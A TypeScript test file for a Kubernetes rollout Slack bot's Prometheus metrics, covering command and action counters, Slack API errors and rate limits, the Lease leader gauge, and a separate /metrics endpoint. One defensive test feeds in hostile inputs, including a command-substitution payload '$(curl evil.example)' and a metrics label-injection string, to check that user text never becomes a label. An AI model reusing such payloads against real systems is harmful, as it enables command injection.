// What the bot counts, read back as Prometheus reads it: commands and actions with their outcomes (a hostile command
// text never becoming a label), the Slack Web API's failures and 429s, the leader gauge as the Lease is won and lost,
// and /metrics on its own address, apart from Slack's front.
import { readFileSync } from 'node:fs';
import { Agent } from 'node:http';
import { LogLevel } from '@slack/web-api';
import axios from 'axios';
import { afterEach, describe, expect, it } from 'vitest';
import type { ApprovalRequest } from '../shared/approvals/request.js';
import { ROLLOUTS, type Rollout } from '../shared/kube/rollout-types.js';
import { FakeSlack } from '../test/fakes/slack/index.js';
import { approvalRequest } from '../test/helpers/approval-policy.js';
import { type BotContextHarness, fakeBotContext, startBotContext } from '../test/helpers/bot-context.js';
import { startFakeKubeApi } from '../test/helpers/fake-kube-api.js';
import { type KubeObject, objectStore } from '../test/helpers/fake-kube-store.js';
import { closeLocalServers, serveLocally } from '../test/helpers/local-server.js';
import { type RunningBot, startBot } from './app.js';
import { decide } from './approvals/decide.js';
import { runCommand } from './commands/run.js';
import { type ActionName, type BotMetrics, createBotMetrics } from './metrics.js';
import { MeteredWebClient } from './slack/metered-client.js';
import { PacedWebClient } from './slack/paced-client.js';

const NS = 'lab';
const ALICE = 'U0ALICE001';
const BOB = 'U0BOB00001';
const EVE = 'U0EVE00001';
const CHANNEL = 'C0LAB00001';
const LEASE = { namespace: 'bots', name: 'rollouts-cv-bot' };

const CONFIG = {
  clusters: [{ name: 'test' }],
  environments: [{ name: 'lab', namespaces: [NS] }],
  roles: [{ name: 'operators', users: [ALICE, BOB], environments: ['lab'], allow: ['view', 'pause', 'approve'] }],
};

afterEach(closeLocalServers);

/** The bot's own series (rollouts_cv_bot_*) as exposed, in order. */
async function series(metrics: BotMetrics, prefix = 'rollouts_cv_bot_'): Promise<string[]> {
  return (await metrics.registry.metrics()).split('\n').filter((line) => line.startsWith(prefix));
}

function seedRollout(bot: BotContextHarness, name: string): void {
  const rollout = JSON.parse(readFileSync(new URL('../test/fixtures/rollouts/canary-paused-step.json', import.meta.url), 'utf8')) as Rollout;
  const { resourceVersion: _rv, uid: _uid, ...metadata } = rollout.metadata;
  bot.store.seed(ROLLOUTS, { ...rollout, metadata: { ...metadata, name, namespace: NS } } as unknown as KubeObject);
}

describe('commands and actions', () => {
  it('counts each command under its first word with its outcome, and an action where its outcome is known', async () => {
    const bot = await startBotContext(CONFIG);
    seedRollout(bot, 'web');
    const run = (text: string, user = ALICE) => runCommand(bot.ctx, text, bot.invocation(user), bot.reply);

    await run('status web -n lab');
    await run('STATUS web -n lab');
    await run('status web -n lab', EVE);
    await run('status gone -n lab');
    await run('pause');
    await run('pause web -n lab', EVE);
    await run('pause web -n lab');
    expect(bot.answer()).toBe(`<@${ALICE}>: rollout '${NS}/web' paused at step 1/3`);

    expect(await series(bot.metrics, 'rollouts_cv_bot_commands_total{')).toEqual([
      'rollouts_cv_bot_commands_total{command="status",outcome="ok"} 2',
      'rollouts_cv_bot_commands_total{command="status",outcome="refused"} 1',
      'rollouts_cv_bot_commands_total{command="status",outcome="error"} 1',
      'rollouts_cv_bot_commands_total{command="pause",outcome="usage"} 1',
      'rollouts_cv_bot_commands_total{command="pause",outcome="refused"} 1',
      'rollouts_cv_bot_commands_total{command="pause",outcome="ok"} 1',
    ]);
    // Only the pauses acted: the one refused before anything was claimed, and the one done.
    expect(await series(bot.metrics, 'rollouts_cv_bot_actions_total{')).toEqual([
      'rollouts_cv_bot_actions_total{action="pause",outcome="refused"} 1',
      'rollouts_cv_bot_actions_total{action="pause",outcome="done"} 1',
    ]);
  });

  it('counts whatever else people type as `other`, never as the text itself', async () => {
    const bot = await startBotContext(CONFIG);
    const hostile = ['drop"} 1\nrollouts_cv_bot_leader 1', `x${'y'.repeat(5_000)}`, '$(curl evil.example)', 'pipelinez run x', '“status”'];
    for (const text of hostile) await runCommand(bot.ctx, text, bot.invocation(ALICE), bot.reply);
    await runCommand(bot.ctx, 'pipeline', bot.invocation(ALICE), bot.reply);

    const text = await bot.metrics.registry.metrics();
    for (const typed of ['drop', 'yyyy', 'curl', 'pipelinez']) expect(text).not.toContain(typed);
    expect(await series(bot.metrics, 'rollouts_cv_bot_commands_total{')).toEqual([
      'rollouts_cv_bot_commands_total{command="other",outcome="usage"} 4',
      // typographic quotes are read as quotes: this is a status without a rollout
      'rollouts_cv_bot_commands_total{command="status",outcome="usage"} 1',
      'rollouts_cv_bot_commands_total{command="pipeline",outcome="usage"} 1',
    ]);
    expect(text).toContain('rollouts_cv_bot_leader 0');
  });

  it('counts an approval clicked twice once as done and once as a duplicate; a refused one as refused', async () => {
    const bot = await startBotContext(CONFIG);
    const request = (await bot.cluster.approvals.create(approvalRequest('web-abc123-s1', NS, { requestedBy: BOB }))) as ApprovalRequest;
    const click = (user: string, key: string) => decide(bot.ctx, { cluster: bot.cluster, namespace: NS, name: request.metadata.name, action: 'approve' }, user, key, `slack:${CHANNEL}`, bot.reply);

    expect(await click(EVE, 'click:1:eve')).toBe('refused');
    expect(await click(ALICE, 'click:2:alice')).toBe('done');
    expect(await click(ALICE, 'click:2:alice')).toBe('duplicate');
    expect(bot.answer()).toBe('Already recorded: this click was handled before.');

    expect(await series(bot.metrics, 'rollouts_cv_bot_actions_total{')).toEqual([
      'rollouts_cv_bot_actions_total{action="approve",outcome="refused"} 1',
      'rollouts_cv_bot_actions_total{action="approve",outcome="done"} 1',
      'rollouts_cv_bot_actions_total{action="approve",outcome="duplicate"} 1',
    ]);
  });

  it('names an action it does not offer `other`, and never throws into the handler that counts', async () => {
    const metrics = createBotMetrics();
    metrics.action('delete"}' as ActionName, 'done');
    metrics.slackApiError('https://evil.example/api', 'not an error code');
    metrics.command(undefined as unknown as string, 'ok');
    expect(await series(metrics)).toEqual([
      'rollouts_cv_bot_actions_total{action="other",outcome="done"} 1',
      'rollouts_cv_bot_slack_api_errors_total{method="other",error="other"} 1',
      'rollouts_cv_bot_leader 0',
    ]);
  });
});

describe('Slack Web API calls', () => {
  it("counts a failed call by method and Slack's error code, an HTTP status, or `request` when Slack was not reached", async () => {
    const bot = await startBotContext(CONFIG);
    await expect(bot.ctx.slack.chat.postMessage({ channel: 'C0MISSING1', text: 'hello' })).rejects.toThrow('channel_not_found');

    const unavailable = await serveLocally((_request, _body, response) => void response.writeHead(503).end('down'));
    const hangsUp = await serveLocally((request) => void request.socket.destroy());
    for (const base of [unavailable, hangsUp]) {
      const client = new MeteredWebClient('xoxb-test', { slackApiUrl: `${base}/api/`, retryConfig: { retries: 0 }, logLevel: LogLevel.ERROR, metrics: bot.metrics });
      await expect(client.conversations.info({ channel: CHANNEL })).rejects.toThrow();
    }

    expect(await series(bot.metrics, 'rollouts_cv_bot_slack_')).toEqual([
      'rollouts_cv_bot_slack_api_errors_total{method="chat.postMessage",error="channel_not_found"} 1',
      'rollouts_cv_bot_slack_api_errors_total{method="conversations.info",error="http_503"} 1',
      'rollouts_cv_bot_slack_api_errors_total{method="conversations.info",error="request"} 1',
    ]);
  });

  it("counts each 429 Slack answered once, and not as a failure; a call the paced client holds back reached no Slack", async () => {
    const slack = await FakeSlack.start({ channels: [{ id: CHANNEL, name: 'lab' }] });
    try {
      const metrics = createBotMetrics();
      const paced = new PacedWebClient(slack.botToken, { ...slack.clientOptions(), metrics });
      // chat.postMessage: a burst of 3 per channel, then 1 per second
      for (let i = 0; i < 3; i++) await paced.chat.postMessage({ channel: CHANNEL, text: `line ${i}` });
      await expect(paced.chat.postMessage({ channel: CHANNEL, text: 'one too many' })).rejects.toThrow(/rate-limit has been reached/);
      await expect(paced.chat.postMessage({ channel: CHANNEL, text: 'held back' })).rejects.toThrow(/rate-limit has been reached/);

      expect(slack.journal.calls('chat.postMessage').map((call) => call.status)).toEqual([200, 200, 200, 429]);
      expect(await series(metrics, 'rollouts_cv_bot_slack_')).toEqual(['rollouts_cv_bot_slack_rate_limited_total{method="chat.postMessage"} 1']);
    } finally {
      await slack.close();
    }
  });
});

describe('the running bot', () => {
  let bot: RunningBot | undefined;
  afterEach(async () => {
    await bot?.stop();
    bot = undefined;
  });

  async function until<T>(what: string, check: () => Promise<T | undefined>, timeoutMs = 8_000): Promise<T> {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const value = await check();
      if (value !== undefined) return value;
      if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  }

  it('serves /metrics on its own address only, shows the leader gauge flip as the Lease is won and lost, and stops serving on stop', async () => {
    const store = objectStore();
    const kube = await startFakeKubeApi(store.respond);
    const slack = await FakeSlack.start();
    try {
      const { ctx } = fakeBotContext(CONFIG, kube, slack, { instance: 'bot-metrics-1' });
      const settings = { botToken: slack.botToken, signingSecret: 'metrics-signing-secret', apiUrl: slack.apiUrl, botId: slack.workspace.botId, botUserId: slack.workspace.botUserId };
      bot = await startBot({
        ctx,
        slack: settings,
        listen: '127.0.0.1:0',
        metricsListen: '127.0.0.1:0',
        lease: { ...LEASE, identity: 'bot-metrics-1', durationMs: 6_000 },
        pollIntervalMs: 50,
      });
      const url = `http://${bot.metricsAddress}`;
      expect(bot.metricsAddress).not.toBe(bot.address);
      const scrape = async () => (await axios.get<string>(`${url}/metrics`)).data;
      const leaderLine = async () => (await scrape()).split('\n').find((line) => line.startsWith('rollouts_cv_bot_leader '));

      await until('the bot to lead', async () => ((await leaderLine()) === 'rollouts_cv_bot_leader 1' ? true : undefined));
      const response = await axios.get<string>(`${url}/metrics`);
      expect(response.headers['content-type']).toMatch(/^text\/plain; version=0\.0\.4/);
      expect(response.data).toMatch(/rollouts_cv_build_info\{version="\d+\.\d+\.\d+[^"]*"\} 1/);
      expect(response.data).toContain('process_cpu_seconds_total');

      const elsewhere = await axios.get<string>(`${url}/`, { validateStatus: () => true });
      expect([elsewhere.status, elsewhere.data]).toEqual([404, 'not found: the Slack bot serves GET /metrics\n']);
      // Slack's HTTP front does not expose them.
      expect((await axios.get(`http://${bot.address}/metrics`, { validateStatus: () => true })).status).toBe(404);

      // Another replica takes the Lease over: this one stops leading at its next attempt.
      store.modify({ group: 'coordination.k8s.io', plural: 'leases', ...LEASE }, (lease) => {
        Object.assign(lease.spec as object, { holderIdentity: 'bot-metrics-2', renewTime: new Date().toISOString() });
      });
      await until('the bot to stop leading', async () => ((await leaderLine()) === 'rollouts_cv_bot_leader 0' ? true : undefined));
      expect(bot.isLeader()).toBe(false);

      await bot.stop();
      bot = undefined;
      await expect(axios.get(`${url}/metrics`, { httpAgent: new Agent({ keepAlive: false }) })).rejects.toThrow(/ECONNREFUSED/);
    } finally {
      await bot?.stop();
      await slack.close();
      await kube.close();
    }
  });

  it('refuses to serve metrics from a context that counts nothing', async () => {
    const store = objectStore();
    const kube = await startFakeKubeApi(store.respond);
    const slack = await FakeSlack.start();
    try {
      const { ctx } = fakeBotContext(CONFIG, kube, slack, { instance: 'bot-metrics-1' });
      delete ctx.metrics;
      await expect(startBot({ ctx, slack: { botToken: slack.botToken, signingSecret: 's' }, listen: '127.0.0.1:0', metricsListen: '127.0.0.1:0', lease: { ...LEASE, identity: 'x' } })).rejects.toThrow(
        'metricsListen (127.0.0.1:0) serves ctx.metrics, and the context has none (createBotMetrics)',
      );
    } finally {
      await slack.close();
      await kube.close();
    }
  });
});
